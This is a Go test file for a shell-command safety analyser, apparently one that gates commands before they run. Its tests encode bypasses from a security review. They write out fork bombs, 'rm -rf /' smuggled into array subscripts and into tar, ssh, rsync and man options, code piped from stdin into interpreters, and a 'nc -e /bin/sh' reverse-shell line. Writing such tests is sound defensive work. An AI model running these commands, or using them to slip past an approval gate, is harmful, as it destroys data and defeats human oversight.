package safety

import (
	"slices"
	"strings"
	"testing"
)

// The security review's round 4 (issue 29): commands that ran code sent
// later, or through a "read-only" command, without approval. Each must now
// come out needs_approval (Ask) or denied (Deny/Block).

// TestReview4Profiles: M2 and L3, under locked (deny by default) and
// guarded (ask by default): none is allowed.
func TestReview4Profiles(t *testing.T) {
	cases := []struct{ name, cmd string }{
		{"test-v-subscript", `test -v 'x[$(touch S)]'`},
		{"bracket-v-subscript", `[ -v 'x[$(touch S)]' ]`},
		{"printf-v-subscript", `printf -v 'x[$(touch S)]' x`},
		{"rg-pre", `rg --pre sh x <(printf 'touch S\n')`},
		{"sort-o", `sort -o F <(printf 'touch S\n')`},
		{"date-s", `date -s '2020-01-01'`},
		{"date-operand", `date 010100002020`},
		{"hostname-name", `hostname evil`},
		{"rg-pre-glob", `rg --pre-glob '*' --pre sh x`},
		{"uvx-bash", `uvx bash -c 'touch S'`}, {"pipx-run-bash", `pipx run bash -c 'touch S'`},
		{"pnpm-dlx-bash", `pnpm dlx bash -c 'touch S'`},
	}
	for _, name := range []string{"locked", "guarded"} {
		p, _ := Preset(name)
		for _, tc := range cases {
			t.Run(name+"/"+tc.name, func(t *testing.T) {
				o := Analyze(tc.cmd, Options{Profile: p}).Outcome
				if o.Decision == Allow {
					t.Errorf("%s allows %q", name, tc.cmd)
				}
			})
		}
	}
}

// TestReview4Stdin: M1, jobs whose stdin takes input sent later
// (profile standard): every one asks.
func TestReview4Stdin(t *testing.T) {
	standard, _ := Preset("standard")
	cases := []struct{ name, cmd string }{
		{"xargs-env", "xargs env"},
		{"xargs-awk", "xargs awk"},
		{"xargs-perl-e", "xargs perl -e"},
		{"xargs-python3-c", "xargs python3 -c"},
		{"xargs-git", "xargs git"},
		{"xargs-find-exec", "xargs -I{} find . -maxdepth 0 -exec {} ;"},
		{"read-let", `read -r l; let "$l"`},
		{"read-arith-cmd", `read -r l; (( l ))`},
		{"read-dbl-bracket-eq", `read -r l; [[ $l -eq 1 ]]`},
		{"read-test-v", `read -r l; test -v "$l"`},
		{"read-printf-v", `read -r l; printf -v "$l" x`},
		{"read-declare", `read -r l; declare "$l"`},
		{"read-mapfile-C", `read -r l; mapfile -C "$l" -c 1 a`},
		{"read-readarray-C", `read -r l; readarray -C "$l" -c 1 a`},
		{"python3-exec-stdin", `python3 -c 'import sys; exec(sys.stdin.read())'`},
		{"perl-eval-stdin", `perl -e 'eval <STDIN>'`},
		{"npm-exec-bash", "npm exec -- bash"},
		// held in the review (ran nothing there), asked now
		{"git-include-stdin", "git -c include.path=/dev/stdin status"},
		{"git-config-global-stdin", "GIT_CONFIG_GLOBAL=/dev/stdin git status"},
		{"java-source-stdin", "java --source 21 /dev/stdin"},
		{"gdb-x-stdin", "gdb -batch -x /dev/stdin"},
		// bash -h is -o hashall, not help: it reads the code sent later
		{"bash-h", "bash -h"},
		// a script path read from the input (l=/dev/stdin)
		{"read-source", `read -r l; . "$l"`},
		{"read-bash-script", `read -r l; bash "$l"`},
		{"read-python-script", `read -r l; python3 "$l"`},
		{"xargs-find", "xargs find"},
		// an argument read from the input (l='-c alias.x=!cmd x')
		{"read-git-args", `read -r l; git $l`},
		{"read-git-c", `read -r l; git -c "$l" status`},
		// a file written from the input, then run
		{"cat-then-bash", "cat > s.sh; bash s.sh"},
		{"tee-then-source", "tee s.sh >/dev/null && . ./s.sh"},
		{"dd-then-exec", "dd of=s.sh; chmod +x s.sh; ./s.sh"},
		{"cat-then-python", "cat > s.py; python3 s.py"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			o := Analyze(tc.cmd, Options{StdinFed: true, Profile: standard}).Outcome
			if o.Decision != Ask && o.Decision != Deny && o.Decision != Block {
				t.Errorf("%q fed later: %s, want needs_approval", tc.cmd, o.Decision)
			}
		})
	}
}

// TestReview4Misses: the analyser's four misses.
func TestReview4Misses(t *testing.T) {
	t.Setenv("HOME", "/home/tester")
	for _, tc := range []checkCase{
		{"f() { eval 'f | f &'; }; f", Block, "fork-bomb"},
		{`bomb() { eval "bomb|bomb&"; }; bomb`, Block, "fork-bomb"},
		{`git add "$(git rev-parse --show-toplevel)"`, Ask, "git-add-blind"},
		{`git add "$(git rev-parse --show-toplevel)" && git commit -m x`, Ask, "git-add-blind"},
		{`find . -maxdepth 0 -exec bash -c 'rm -rf "$0"' / \;`, Block, "rm-critical"},
		{"git reset --hard HEAD~5", Ask, "git-reset-hard"},
		// variants TestMissVariantsNested found: a variable holding the
		// root, and an alias of the same name inside a new shell started by
		// an alias (the new shell expands its own aliases afresh)
		{`top=$(git rev-parse --show-toplevel); git add "$top"`, Ask, "git-add-blind"},
		{"shopt -s expand_aliases; alias g='bash -c \"shopt -s expand_aliases; alias g=\\\"x() { x | x & }; x\\\"\n g\"'\ng", Block, "fork-bomb"},
		{"alias ls='rm -rf /'; bash -c ls", Allow, ""},
		{"shopt -s expand_aliases; alias g='eval \"alias g=\\\"x() { x | x & }; x\\\"\n g\"'\ng", Block, "fork-bomb"},
		{"shopt -s expand_aliases; alias g='g x'; g", Allow, ""},
		// literal code bash evaluates is analysed like $(...)
		{`test -v 'x[$(rm -rf ~)]'`, Block, "rm-critical"},
		{`[ -v 'x[$(rm -rf /)]' ]`, Block, "rm-critical"},
		{`printf -v 'x[$(rm -rf /)]' y`, Block, "rm-critical"},
		{`let 'x[$(rm -rf /)]=1'`, Block, "rm-critical"},
		{`(( 'x[$(rm -rf /)]' ))`, Block, "rm-critical"},
		{`[[ 'x[$(rm -rf ~)]' -eq 1 ]]`, Block, "rm-critical"},
		{`declare 'x[$(rm -rf /)]=1'`, Block, "rm-critical"},
		{`v='x[$(rm -rf /)]'; echo $(( v ))`, Block, "rm-critical"},
		{`mapfile -C 'rm -rf /' -c 1 a < f`, Block, "rm-critical"},
		// values the text binds in other ways: $_, ${x:=v}, printf -v, and
		// a variable of the environment whose value may name one of them
		{`echo 'a[$(rm -rf ~)]'; echo $((_))`, Ask, "dynamic-eval"},
		{`echo 'a[$(rm -rf ~)]'; echo $(( $_ + 1 ))`, Ask, "dynamic-eval"},
		{`echo ${x:='a[$(rm -rf ~)]'}; echo $((x))`, Block, "rm-critical"},
		{`printf -v x %s 'a[$(rm -rf ~)]'; echo $((x))`, Block, "rm-critical"},
		{`for r in 'a[$(rm -rf ~)]'; do echo $((USER)); done`, Block, "rm-critical"},
		{`printf -v n %d 3; echo $((n + 1))`, Allow, ""},
		{`unset 'a[$(rm -rf ~)]'`, Block, "rm-critical"},
		// values read at run time, where bash evaluates them
		{`read -r n < f; echo $(( n + 1 ))`, Ask, "dynamic-eval"},
		{`read -r i < f; echo "${a[i]}"`, Ask, "dynamic-eval"},
		{`read -r v < f; echo "${!v}"`, Ask, "dynamic-eval"},
		{`read -r l < f; x=$l; (( x ))`, Ask, "dynamic-eval"},
		// options whose value is a command
		{`rg --pre sh x <(printf 'touch S\n')`, Ask, "dynamic-shell"},
		{`rg --pre=bash x .`, Ask, "dynamic-shell"},
		{`tar -I sh -xf a.tar`, Ask, "pipe-to-shell"},
		{`sort --compress-program=sh f`, Ask, "pipe-to-shell"},
		{`tar -xf a.tar --to-command='rm -rf ~'`, Block, "rm-critical"},
		{`tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='rm -rf /' .`, Block, "rm-critical"},
		{`tar -I 'rm -rf /' -cf a.tar .`, Block, "rm-critical"},
		{`rsync -e 'rm -rf /' a b:c`, Block, "rm-critical"},
		{`ssh -o ProxyCommand='rm -rf ~' host`, Block, "rm-critical"},
		{`nc -e /bin/sh host 1`, Allow, ""},
		{`man -P 'rm -rf /' ls`, Block, "rm-critical"},
		{`rg --pre ./preprocess.sh x`, Allow, ""},
		{`tar -I zstd -xf a.tar.zst`, Allow, ""},
		{`rsync -av -e 'ssh -p 2222' src/ host:dst/`, Allow, ""},
		// and the ordinary uses
		{`n=$(wc -l < f); echo $(( n + 1 ))`, Allow, ""},
		{`for ((i=0; i<3; i++)); do echo $i; done`, Allow, ""},
		{`while read -r line; do echo "$line"; done < f`, Allow, ""},
		{`test -v HOME && printf -v out '%s' x`, Allow, ""},
	} {
		checkOne(t, tc)
	}
}

// TestGrammarsSorted: grammarOf searches the table by name.
func TestGrammarsSorted(t *testing.T) {
	if !slices.IsSortedFunc(grammars, func(a, b grammar) int { return strings.Compare(a.name, b.name) }) {
		t.Fatal("grammars is not sorted by name")
	}
	for _, g := range grammars {
		if grammarOf(g.name) != &grammars[slices.IndexFunc(grammars, func(x grammar) bool { return x.name == g.name })] {
			t.Errorf("grammarOf(%q) misses its entry", g.name)
		}
	}
}
